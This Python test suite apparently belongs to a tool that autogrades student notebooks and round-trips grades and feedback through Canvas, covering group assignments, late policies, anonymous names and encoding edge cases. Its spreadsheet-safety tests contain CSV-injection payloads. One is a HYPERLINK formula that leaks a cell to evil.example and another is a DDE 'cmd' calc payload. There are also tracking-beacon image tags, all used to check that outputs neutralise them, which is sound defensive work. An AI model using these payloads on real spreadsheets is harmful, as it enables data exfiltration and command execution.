"""The Canvas round trip of whole (small) classes, each step held to Canvas's own source.

Each class is graded by the real pipeline (synthetic_class.py) and what the run writes is
put through a model of what Canvas does with it (canvas_model.py): the gradebook import as
the upload page sends it and grade_student stores it (conftest.py checks every import a test
writes against changes.csv), and the comment upload as Re-Upload Submissions attaches it.
"""

import csv
import json
import zipfile

import pytest
from canvas_model import (
    canvas_comments,
    canvas_import,
    check_import,
    download_name,
    gradebook_csv,
    late_score,
    ruby_text,
)
from synthetic_class import COLUMN, FakeJudges, autograder, grade, notebook, write, zipped

from aelab.canvas import read_gradebook
from aelab.grading.gradebook_import import LatePolicy


@pytest.fixture
def zip_path(monkeypatch, tmp_path):
    """The synthetic autograder, with notebooks scored by their SCORES cell."""
    monkeypatch.setattr("aelab.grading.run.Judges", FakeJudges)
    return autograder(tmp_path)


def _csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def _changes(out):
    return {row["user_id"]: row for row in _csv(out / "changes.csv")}


def _cells(out):
    """The import's assignment cells, by user id."""
    with open(out / "gradebook_import.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    return {row[1]: row[-1] for row in rows[3:]}


# ------------------------------------------------------------------------------ group assignments

NB = "lab.ipynb"
GROUP_CLASS = {  # user id: (sortable name, stored grade, group)
    "101": ("Doe, Jane", "", "lab_group_1"),
    "102": ("Roe, John", "", "lab_group_1"),
    "103": ("Poe, Ed", "EX", "lab_group_1"),  # excused member
    "104": ("Lee, Ann", "41", "lab_group_2"),  # a grade set by hand for the group
    "105": ("Kim, Sue", "", "lab_group_2"),
    "106": ("Park, Kim", "", "lab_group_3"),
    "107": ("Moe, Al", "", "lab_group_3"),
}
# content_zipper.rb#zip_assignment: one file per group, named after the group (#representatives)
GROUP_FILES = {
    download_name("lab_group_1", "101", "5001", "lab.ipynb"): notebook(38),
    download_name("lab_group_2", "105", "5002", "lab.ipynb"): notebook(30),
    download_name("lab_group_3", "107", "5003", "lab.ipynb"): notebook(20),
}


def _group_class(tmp_path):
    students = {u: (name, stored) for u, (name, stored, _) in GROUP_CLASS.items()}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "gradebook.csv", COLUMN, students))
    groups = {}
    for user_id, (_, _, group) in GROUP_CLASS.items():
        groups.setdefault(group, []).append(user_id)
    return write(GROUP_FILES, tmp_path / "download"), gradebook, groups


def test_a_group_download_without_groups_writes_no_import(zip_path, tmp_path):
    source, gradebook, _ = _group_class(tmp_path)
    out = tmp_path / "grades"
    out.mkdir()
    (out / "gradebook_import.csv").write_text("an earlier run's import\n")
    summary = grade(source, out, zip_path, gradebook)
    assert not (out / "gradebook_import.csv").exists() and not (out / "changes.csv").exists()
    assert "lab_group_1 for user 101" in summary.import_refused
    assert "--groups" in summary.import_refused and summary.changes == []
    assert {r.status for r in summary.rows} == {"graded"}  # graded and fed back all the same


def test_one_renamed_student_is_a_warning_not_a_group_assignment(zip_path, tmp_path):
    students = {"101": ("Doe, Jane", ""), "102": ("Roe, John", ""), "103": ("Poe, Ed", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("Doe, Jane", "101", "5001", NB): notebook(38),
        download_name("Roe, John", "102", "5002", NB): notebook(30),
        download_name("Poe, Edgar", "103", "5003", NB): notebook(20),  # renamed since
    }
    out = tmp_path / "grades"
    summary = grade(write(files, tmp_path / "d"), out, zip_path, gradebook)
    assert summary.import_refused == "" and _cells(out) == {"101": "38", "102": "30", "103": "20"}
    assert summary.warnings == [
        "file names that are not their students' (poeedgar for user 103): renamed since the export?"
    ]


def test_a_group_gets_one_grade_and_a_hand_set_grade_keeps_its_group(zip_path, tmp_path):
    """abstract_assignment.rb#grade_student gives one member's grade to the whole group
    (excused members aside): every member's cell carries the group's score, or none changes."""
    source, gradebook, groups = _group_class(tmp_path)
    out = tmp_path / "grades"
    summary = grade(source, out, zip_path, gradebook, groups=groups)
    assert _cells(out) == {
        "101": "38", "102": "38", "103": "EX",
        "104": "41.0", "105": "",  # the group keeps Lee's grade: nothing is sent for it
        "106": "20", "107": "20",
    }  # fmt: skip
    changes = _changes(out)
    assert {changes[u]["change"] for u in ("104", "105")} == {"kept"}
    assert "Lee, Ann (41.00) holds a grade set in Canvas" in changes["105"]["why"]
    stored = check_import(out)  # what Canvas stores, as changes.csv says
    assert stored == {
        "101": "38.0", "102": "38.0", "103": "EX", "104": "41.0", "105": "",
        "106": "20.0", "107": "20.0",
    }  # fmt: skip
    # Re-Upload Submissions: one file per group; Canvas gives it to every member
    comments, ignored = canvas_comments(
        out / "feedback_upload.zip", {"5001": ("101", NB), "5002": ("105", NB), "5003": ("107", NB)}
    )
    assert ignored == [] and sorted(c.submitter for c in comments) == ["101", "105", "107"]
    assert summary.undeliverable == []  # members get their group's comment

    forced = tmp_path / "forced"
    grade(source, forced, zip_path, gradebook, groups=groups, replace_existing=True)
    assert {u: _cells(forced)[u] for u in ("104", "105")} == {"104": "30", "105": "30"}
    assert check_import(forced)["104"] == "30.0"


def test_the_model_catches_what_a_group_unaware_import_does(tmp_path):
    """The same class imported as before (exported cells, blanks unquoted, the submitters'
    cells set): the upload page sends the groupmates' blanks as "no grade", which
    grade_student gives the whole group, clearing the score just set."""
    _, _, groups = _group_class(tmp_path)
    naive = tmp_path / "naive.csv"
    new = {"101": "38", "105": "30"}
    lines = [f"Student,ID,SIS User ID,SIS Login ID,Section,{COLUMN}"]
    lines += [
        f'"{name}",{u},s{u},login{u},A,{new.get(u, stored)}'
        for u, (name, stored, _) in GROUP_CLASS.items()
    ]
    naive.write_text("\n".join(lines) + "\n")
    stored = {u: ruby_text(float(s)) if s not in ("", "EX") else s for u, (_, s, _) in
              GROUP_CLASS.items()}  # fmt: skip
    member_of = {u: g for g, members in groups.items() for u in members}
    after = canvas_import(naive, stored, member_of)
    assert after["101"] == "" and after["102"] == ""  # 102's blank, sent last, cleared 38
    assert after["104"] == "30.0"  # Kim's 30 overwrote the grade Lee's group was given


# ------------------------------------------------------------------- late and missing policies


def test_a_late_regrade_recognises_its_own_score_after_canvas_deducted(zip_path, tmp_path):
    """submission.rb#score_late_or_none stores a late grade less late_policy.rb#points_deducted:
    the next export no longer holds what the import wrote."""
    students = {"101": ("Doe, Jane", ""), "102": ("Roe, John", "")}
    out = tmp_path / "grades"
    first = {
        download_name("Doe, Jane", "101", "5001", NB, late=True): notebook(38),
        download_name("Roe, John", "102", "5002", NB, late=True): notebook(30),
    }
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g1.csv", COLUMN, students))
    grade(write(first, tmp_path / "d1"), out, zip_path, gradebook)
    assert _cells(out) == {"101": "38", "102": "30"}
    # Canvas deducts 10 % of 45 points for one day late; the GSI then sets Roe's grade to 25
    canvas = {"101": late_score(38, 45, 10, 1), "102": late_score(25, 45, 10, 1)}
    assert canvas == {"101": 33.5, "102": 20.5}
    stored = {u: (name, str(canvas[u])) for u, (name, _) in students.items()}
    second = dict(first)
    second[download_name("Doe, Jane", "101", "5001", NB, late=True)] = notebook(36)  # regraded
    source = write(second, tmp_path / "d2")
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g2.csv", COLUMN, stored))

    grade(source, out, zip_path, gradebook)  # the policy not given: nothing is guessed
    changes = _changes(out)
    assert (changes["101"]["old"], changes["101"]["change"]) == ("33.50", "kept")
    assert "below this folder's earlier import of 38" in changes["101"]["why"]
    assert "--late-deduction" in changes["101"]["why"]

    grade(source, out, zip_path, gradebook, policy=LatePolicy(late_deduction=10))
    changes = _changes(out)
    assert (changes["101"]["new"], changes["101"]["change"]) == ("36", "changed")
    assert "less Canvas's late deduction" in changes["101"]["why"]
    assert (changes["102"]["new"], changes["102"]["change"]) == ("20.50", "kept")  # by hand
    assert "set in Canvas" in changes["102"]["why"]


def test_an_unchanged_late_score_is_left_alone(zip_path, tmp_path):
    students = {"101": ("Doe, Jane", "")}
    files = {download_name("Doe, Jane", "101", "5001", NB, late=True): notebook(38)}
    source, out = write(files, tmp_path / "d"), tmp_path / "grades"
    grade(
        source, out, zip_path, read_gradebook(gradebook_csv(tmp_path / "g1.csv", COLUMN, students))
    )
    later = {"101": ("Doe, Jane", str(late_score(38, 45, 10, 2)))}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g2.csv", COLUMN, later))
    grade(source, out, zip_path, gradebook, policy=LatePolicy(late_deduction=10))
    change = _changes(out)["101"]
    assert (change["old"], change["change"]) == ("29.00", "kept")
    assert change["why"].startswith("unchanged (the cell held this folder's earlier import of 38")
    assert _cells(out)["101"] == "29.0"  # as Canvas stores it: the upload page sends nothing


def test_a_missing_policy_score_is_replaced_only_when_the_policy_is_given(zip_path, tmp_path):
    """submission.rb#score_missing fills in LatePolicy#points_for_missing for missing work; a
    partner who did not submit shows it, though their partner's notebook names them."""
    students = {"101": ("Doe, Jane", ""), "102": ("Roe, John", "0")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {download_name("Doe, Jane", "101", "5001", NB): notebook(38, team=[("John", "102")])}
    source = write(files, tmp_path / "d")
    grade(source, tmp_path / "plain", zip_path, gradebook)
    assert _changes(tmp_path / "plain")["102"]["change"] == "kept"
    grade(source, tmp_path / "policy", zip_path, gradebook, policy=LatePolicy(missing_grade=0))
    change = _changes(tmp_path / "policy")["102"]
    assert (change["old"], change["new"], change["change"]) == ("0.00", "38", "changed")
    assert "missing policy" in change["why"]


# ------------------------------------------------------------------------------ the comment upload


def test_one_page_per_student_attached_where_canvas_shows_it_as_a_page(zip_path, tmp_path):
    """A notebook and its HTML copy are one attempt: one page, which Canvas attaches under the
    display name of the attachment its name gives (#generate_comments_from_files)."""
    students = {"101": ("Doe, Jane", ""), "102": ("Roe, John", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("Doe, Jane", "101", "5001", NB): notebook(38),
        download_name("Doe, Jane", "101", "5002", "lab.html"): "<html>a copy</html>",
        download_name("Roe, John", "102", "5003", NB): notebook(30),
    }
    out = tmp_path / "grades"
    grade(write(files, tmp_path / "d"), out, zip_path, gradebook)
    attachments = {"5001": ("101", NB), "5002": ("101", "lab.html"), "5003": ("102", NB)}
    comments, ignored = canvas_comments(out / "feedback_upload.zip", attachments)
    assert ignored == []
    assert sorted((c.submitter, c.display_name) for c in comments) == [
        ("101", "lab.html"),  # shown as a page
        ("102", NB),  # no HTML in Roe's submission: Canvas shows the notebook's name
    ]
    assert sorted(p.name for p in (out / "feedback").iterdir()) == [
        "doejane_101.html", "roejohn_102.html",
    ]  # fmt: skip
    jane = (out / "feedback" / "doejane_101.html").read_text()
    assert "Autograded: 38 / 38" in jane and "doejane_101_5001_lab.ipynb" in jane
    assert "doejane_101_5002_lab.html: kept for reading; lab.ipynb was graded" in jane


def test_an_anonymous_class_goes_back_under_canvas_anon_names(zip_path, tmp_path):
    """content_zipper.rb names files anon_<anonymous id>; #infer_comment_context_from_filename
    reads them back; gradebook_exporter.rb shows N/A while anonymous grades are unposted."""
    students = {"101": ("Doe, Jane", "N/A"), "102": ("Roe, John", "N/A")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("", "", "5001", NB, anonymous_id="aB3xZ"): notebook(38),
        download_name("", "", "5002", NB, late=True, anonymous_id="Q9kLm"): notebook(30),
    }
    out = tmp_path / "grades"
    summary = grade(zipped(write(files, tmp_path / "d")), out, zip_path, gradebook)
    assert sorted(r.user_id for r in summary.rows) == ["anon_Q9kLm", "anon_aB3xZ"]
    assert summary.anonymous == 2 and summary.import_refused == ""
    attachments = {"5001": ("anon_aB3xZ", NB), "5002": ("anon_Q9kLm", NB)}
    comments, ignored = canvas_comments(out / "feedback_upload.zip", attachments)
    assert ignored == [] and sorted(c.submitter for c in comments) == ["anon_Q9kLm", "anon_aB3xZ"]
    assert _cells(out) == {"101": "N/A", "102": "N/A"}  # no score reaches an unposted column


# --------------------------------------------------------------------------------------- names


def test_a_file_of_a_student_missing_from_the_gradebook_says_so(zip_path, tmp_path):
    students = {"101": ("Doe, Jane", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("Doe, Jane", "101", "5001", NB): notebook(38),
        download_name("Gone, Gil", "999", "5002", NB): notebook(30),
    }
    summary = grade(write(files, tmp_path / "d"), tmp_path / "grades", zip_path, gradebook)
    gone = next(r for r in summary.rows if r.user_id == "999")
    assert gone.status == "graded" and "not in the gradebook export" in gone.reason
    assert "sections" in gone.reason and summary.import_refused == ""


# ----------------------------------------------------------------------- TEAM claims and totals


def test_team_claims_never_lower_a_score_and_conflicts_get_the_best_claim(zip_path, tmp_path):
    students = {u: (n, "") for u, n in (("101", "Doe, Jane"), ("102", "Roe, John"),
                                        ("103", "Bad, Bob"))}  # fmt: skip
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("Doe, Jane", "101", "5001", NB): notebook(38, team=[("John", "102")]),
        # a blank notebook naming Jane's partner, and Jane herself
        download_name("Bad, Bob", "103", "5003", NB): notebook(
            0, team=[("x", "102"), ("y", "101")]
        ),
    }
    out = tmp_path / "grades"
    summary = grade(write(files, tmp_path / "d"), out, zip_path, gradebook)
    assert any("102 is named by 2 submissions" in c and "credited the best claimed score, 38" in c
               for c in summary.conflicts)  # fmt: skip
    assert _cells(out) == {"101": "38", "102": "38", "103": "0"}


def test_possible_and_the_feedback_total_count_written_points_once_scored(zip_path, tmp_path):
    students = {"101": ("Doe, Jane", ""), "102": ("Roe, John", "")}
    path = gradebook_csv(tmp_path / "g.csv", COLUMN, students, points=40)
    gradebook = read_gradebook(path)
    files = {
        download_name("Doe, Jane", "101", "5001", NB): notebook(38),
        download_name("Roe, John", "102", "5002", NB): notebook(30),
    }
    source, out = write(files, tmp_path / "d"), tmp_path / "grades"
    summary = grade(source, out, zip_path, gradebook)
    assert summary.warnings == [
        f"{COLUMN!r} is worth 40 points in Canvas, but the lab gives 38 autograded + 7 written "
        "= 45: set the assignment's points in Canvas (or the lab's) so that scores count out "
        "of the right total"
    ]
    rows = {r["user_id"]: r for r in _csv(out / "results.csv")}
    assert (rows["101"]["total"], rows["101"]["possible"]) == ("38", "38")
    assert "Total so far: 38 / 45" in (out / "feedback" / "doejane_101.html").read_text()
    sheet = _csv(out / "manual_scores.csv")
    for line in sheet:
        line["score"] = "5" if line["user_id"] == "101" else ""
    with open(out / "manual_scores.csv", "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=list(sheet[0]))
        writer.writeheader()
        writer.writerows(sheet)
    grade(source, out, zip_path, gradebook, manual=out / "manual_scores.csv")
    rows = {r["user_id"]: r for r in _csv(out / "results.csv")}
    assert [rows["101"][k] for k in ("written", "total", "possible")] == ["5", "43", "45"]
    assert rows["102"]["possible"] == "38"  # not scored yet
    assert "Total: 43 / 45" in (out / "feedback" / "doejane_101.html").read_text()
    assert _cells(out)["101"] == "43"


# ------------------------------------------------------------------ spreadsheet and page safety

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]


def test_cells_from_students_never_run_as_formulas(zip_path, tmp_path):
    """OWASP's CSV-injection rule for every cell a person opens; Canvas's own cells in the
    import stay exactly as exported (gradebook_exporter.rb quotes a leading = itself)."""
    students = {"101": ("=Eq, Al", ""), "102": ("-Minus, Max", ""), "103": ("@At, Ann", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {
        download_name("Eq, Al", "101", "5001", NB): notebook(
            38, team=[(FORMULAS[0], "101")], answer=FORMULAS[1]
        ),
        download_name("Minus, Max", "102", "5002", NB): notebook(30, answer=FORMULAS[2]),
    }
    out = tmp_path / "grades"
    grade(write(files, tmp_path / "d"), out, zip_path, gradebook)
    results = {r["user_id"]: r for r in _csv(out / "results.csv")}
    assert results["101"]["team"].startswith("'=HYPERLINK")
    answers = {r["user_id"]: r["answer"] for r in _csv(out / "manual_scores.csv")}
    assert answers == {"101": "'" + FORMULAS[1], "102": "'" + FORMULAS[2]}
    names = {r["user_id"]: r["student"] for r in _csv(out / "changes.csv")}
    assert names == {"101": '\'="=Eq, Al"', "102": "'-Minus, Max", "103": "'@At, Ann"}
    with open(out / "gradebook_import.csv", newline="", encoding="utf-8") as file:
        imported = {row[1]: row[0] for row in list(csv.reader(file))[3:]}
    assert imported == {"101": '="=Eq, Al"', "102": "-Minus, Max", "103": "@At, Ann"}


def test_a_comment_typed_in_the_sheet_reads_back_as_typed(zip_path, tmp_path):
    students = {"101": ("Doe, Jane", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {download_name("Doe, Jane", "101", "5001", NB): notebook(38)}
    source, out = write(files, tmp_path / "d"), tmp_path / "grades"
    grade(source, out, zip_path, gradebook)
    sheet = _csv(out / "manual_scores.csv")
    sheet[0].update(score="6", comment="-1: say why")
    with open(out / "manual_scores.csv", "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=list(sheet[0]))
        writer.writeheader()
        writer.writerows(sheet)
    for _ in range(2):  # written back guarded, read back as typed, every time
        grade(source, out, zip_path, gradebook, manual=out / "manual_scores.csv")
        assert _csv(out / "manual_scores.csv")[0]["comment"] == "'-1: say why"
    assert "Comment: -1: say why" in (out / "feedback" / "doejane_101.html").read_text()


def test_no_page_fetches_anything_remote_in_chromium(zip_path, tmp_path):
    """An answer's Markdown image (a tracking beacon) is not loaded by the written-answer page,
    the feedback page or the class report: Chromium logs no request but the pages' own."""
    import http.server
    import threading

    from browser import launch
    from playwright.sync_api import sync_playwright

    hits = []

    class Beacon(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    beacon = f"http://127.0.0.1:{server.server_port}"
    answer = (
        f"It compresses. ![seen]({beacon}/answer.png) <img src='{beacon}/raw.png'>\n\n"
        f"[a link]({beacon}/link)"
    )
    students = {"101": ("Doe, Jane", "")}
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    files = {download_name("Doe, Jane", "101", "5001", NB): notebook(38, answer=answer)}
    out = tmp_path / "grades"
    grade(write(files, tmp_path / "d"), out, zip_path, gradebook)
    pages = [
        out / "written" / "q3.html",
        out / "feedback" / "doejane_101.html",
        out / "report.html",
    ]
    requested = []
    try:
        with sync_playwright() as playwright:
            browser = launch(playwright)
            page = browser.new_page()
            page.on("request", lambda request: requested.append(request.url))
            for path in pages:
                page.goto(path.as_uri())
                page.wait_for_load_state("networkidle")
            # the report's own figures are embedded, and the policy lets them show
            sizes = page.eval_on_selector_all("img", "imgs => imgs.map(i => i.naturalWidth)")
            assert sizes and min(sizes) > 100, sizes
            browser.close()
    finally:
        server.shutdown()
    assert hits == []
    assert {url.split(":")[0] for url in requested} <= {"file", "data"}, requested
    assert sorted(u for u in requested if u.startswith("file")) == sorted(p.as_uri() for p in pages)
    shown = (out / "written" / "q3.html").read_text()
    assert f"[image not shown: seen ({beacon}/answer.png)]" in shown
    assert "&lt;img src=" in shown and f'href="{beacon}/link"' in shown


# ----------------------------------------------------------- text from a submission (issue 20)


def _raw_notebook(team_name: str, answer: str) -> str:
    """A notebook whose JSON holds ``\\ud800`` escapes: json.loads gives lone surrogates."""
    made = notebook(38, answer=answer)
    made.cells[0].source = f'TEAM = [{{"name": "{team_name}", "canvas_id": "102"}}]'
    return json.dumps(made)  # ensure_ascii: the surrogates travel as \ud800 escapes


def test_surrogates_controls_and_odd_bytes_reach_every_output_safely(zip_path, tmp_path):
    """A lone surrogate in a TEAM name (in the code's text and in the JSON), in a written
    answer with control characters, and a file name with a byte that is not UTF-8: every
    row is graded and every output is written."""
    students = {u: (n, "") for u, n in (("101", "Doe, Jane"), ("102", "Roe, John"),
                                        ("103", "Poe, Ed"), ("104", "Lee, Ann"))}  # fmt: skip
    gradebook = read_gradebook(gradebook_csv(tmp_path / "g.csv", COLUMN, students))
    source = tmp_path / "d"
    write(
        {
            # the TEAM cell's own text says "\ud800": literal_eval makes a lone surrogate
            download_name("Doe, Jane", "101", "5001", NB): _raw_notebook(
                "Jane \\ud800", "It compresses."
            ),
            # the notebook's JSON holds the surrogate and control characters themselves
            download_name("Lee, Ann", "104", "5004", NB): _raw_notebook(
                "Ann \ud800", "It \ud800 compresses \x07\x1b[31m\x00 bits."
            ),
        },
        source,
    )
    odd = download_name("Poe, Ed", "103", "5003", "lab.ipynb").encode().replace(b"lab", b"l\xffb")
    (source / odd.decode("utf-8", "surrogateescape")).write_text(json.dumps(notebook(30)))
    out = tmp_path / "grades"
    summary = grade(source, out, zip_path, gradebook)
    assert {r.user_id: r.status for r in summary.rows} == {
        "101": "graded", "103": "graded", "104": "graded"
    }  # fmt: skip
    for name in ("results.csv", "manual_scores.csv", "changes.csv", "gradebook_import.csv",
                 "rows.json", "report.html", "report.json", "written/q3.html"):  # fmt: skip
        text = (out / name).read_text(encoding="utf-8")  # valid UTF-8, or this raises
        assert "\x07" not in text and "\x1b" not in text, name
    results = {r["user_id"]: r for r in _csv(out / "results.csv")}
    assert results["101"]["team"] == "Jane \ufffd (102)"
    assert results["103"]["file"] == "poeed_103_5003_l\ufffdb.ipynb"
    answer = next(r["answer"] for r in _csv(out / "manual_scores.csv") if r["user_id"] == "104")
    assert answer == "It \ufffd compresses \ufffd\ufffd[31m\ufffd bits."
    with zipfile.ZipFile(out / "feedback_upload.zip") as upload:
        assert len(upload.namelist()) == 3
        assert all(n.isascii() for n in upload.namelist())
    for page in (out / "feedback").iterdir():
        page.read_text(encoding="utf-8")
    check_import(out)


def test_a_zip_whose_names_are_not_utf8_is_refused_with_the_way_out(zip_path, tmp_path, capsys):
    from aelab.cli import main

    download = tmp_path / "submissions.zip"
    with zipfile.ZipFile(download, "w") as archive:
        archive.writestr("doejane_101_5001_lab\u00e9.ipynb", json.dumps(notebook(38)))
    download.write_bytes(download.read_bytes().replace("lab\u00e9".encode(), b"lab\xff\xa9"))
    args = ["grade", str(download), "--autograder", str(zip_path), "--out", str(tmp_path / "g")]
    assert main([*args, "--unsafe-no-sandbox"]) == 1
    error = capsys.readouterr().err
    assert "a file name in the zip is not UTF-8" in error and "pass the folder" in error


def test_every_writer_survives_any_string(tmp_path):
    """Even text that was never cleaned: the writers replace what UTF-8 cannot hold."""
    from aelab.grading.outputs import write_feedback, write_results_csv
    from aelab.grading.written import WrittenQuestion, write_pages, write_sheet
    from aelab.record import Row
    from aelab.submissions import WrittenAnswer

    bad = "x\ud800\udfff\x00y"
    row = Row(file=bad, student=bad, user_id="101", attachment_id="5", status="graded",
              reason=bad, team=[{"name": bad, "canvas_id": bad}], credited=["101"],
              scores={"q1": 1.0}, max_scores={"q1": 2.0},
              tests=[{"name": bad, "question": "q1", "passed": False, "hidden": True,
                      "points": 1.0, "message": bad}])  # fmt: skip
    question = WrittenQuestion("q3", bad, 1.0, bad)
    row.answers = [WrittenAnswer(bad, "1", bad)]
    write_results_csv([row], ["q1"], tmp_path / "results.csv")
    write_sheet(tmp_path / "manual_scores.csv", [row], [question], {("101", "q3"): (1.0, bad)})
    write_pages(tmp_path / "written", [row], [question], bad)
    write_feedback([row], {"101": {"Student": bad}}, tmp_path / "feedback", bad)
    written = [*tmp_path.rglob("*.csv"), *tmp_path.rglob("*.html")]
    assert len(written) == 4
    for path in written:
        assert "x?" in path.read_text(encoding="utf-8") or "x\ufffd" in path.read_text(), path
    with zipfile.ZipFile(tmp_path / "feedback_upload.zip") as upload:
        assert upload.namelist() == ["xy_101_5_feedback.html"]


def test_the_command_warns_first_and_names_canvas_own_menus(zip_path, tmp_path, capsys):
    from aelab.cli import main

    students = {"101": ("Doe, Jane", "")}
    path = gradebook_csv(tmp_path / "g.csv", COLUMN, students, points=40)
    files = {download_name("lab_group_1", "101", "5001", NB): notebook(38)}
    source, out = write(files, tmp_path / "d"), tmp_path / "grades"
    args = ["grade", str(source), "--gradebook", str(path), "--autograder", str(zip_path)]
    args += ["--out", str(out), "--workers", "1", "--unsafe-no-sandbox"]
    assert main(args) == 0
    printed = capsys.readouterr().out.splitlines()
    assert printed[0].startswith(f"Warning: {COLUMN!r} is worth 40 points in Canvas")
    assert any("Re-Upload Submissions" in line and "Manually" in line for line in printed)
    assert any(line.startswith("Canvas import: none.") and "--groups" in line for line in printed)
    assert not any("Upload Submission Comments" in line for line in printed)
